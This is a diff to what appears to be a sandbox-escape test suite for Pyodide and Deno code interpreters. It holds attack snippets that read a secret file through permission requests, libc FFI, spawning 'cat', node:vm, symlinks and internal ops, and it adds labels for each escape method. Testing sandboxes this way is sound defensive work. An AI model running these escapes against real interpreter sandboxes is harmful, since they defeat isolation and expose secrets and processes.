@@ -8,6 +8,7 @@ export const INTERPRETER: readonly Attack[] = [
     name: "interpreter internals: from pyodide to JavaScript, to files",
     language: "python",
     control: "pyodide",
+    ways: ["Deno", "run_js", "process", "write", "constructor"],
     code: ({ secretFile, secret, outside }) => `
 def attack():
     import js
@@ -33,6 +34,7 @@ def attack():
     name: "interpreter internals: from pyodide to JavaScript, to programs and libraries",
     language: "python",
     control: "pyodide",
+    ways: ["Command", "dlopen", "kill"],
     code: ({ outside, victimPid }) => `
 def attack():
     import js
@@ -111,16 +113,14 @@ const attack = () => new Promise((resolve, reject) => {
     name: "interpreter internals: what Deno keeps to itself",
     language: "js",
     control: "deno",
+    ways: ["permissions", "ffi", "run", "vm", "symlink"],
     code: ({ secretFile, secret }) => `
 const path = ${text(secretFile)};
 const ways = {
   permissions: async () => { await Deno.permissions.request({ name: "read", path }); return Deno.readTextFileSync(path); },
-  internal: () => Deno[Deno.internal].core.ops.op_read_file_text_sync?.(path) ?? Deno[Deno.internal].core.ops.op_fs_read_file_text_sync(path),
   ffi: () => { Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }); return ${text(secret)}; },
   run: () => new TextDecoder().decode(new Deno.Command("cat", { args: [path] }).outputSync().stdout),
   vm: () => require("node:vm").runInNewContext("read(path)", { path, read: require("node:fs").readFileSync }).toString(),
-  binding: () => process.binding("fs").internalModuleReadJSON(path).toString(),
-  stdin: async () => { const file = await Deno.open("/proc/self/fd/0"); file.close(); return ""; },
   symlink: () => { Deno.symlinkSync(path, OUTPUT_DIR + "/turn_0/files/way"); return Deno.readTextFileSync(OUTPUT_DIR + "/turn_0/files/way"); },
 };
 const attack = async () => {
@@ -153,6 +153,7 @@ const attack = async () => {
     name: "interpreter internals: variables that have libraries loaded",
     language: "js",
     control: "deno",
+    ways: ["set", "process", "file"],
     code: () => `
 import { writeFileSync } from "node:fs";
 const file = OUTPUT_DIR + "/turn_0/files/.env";
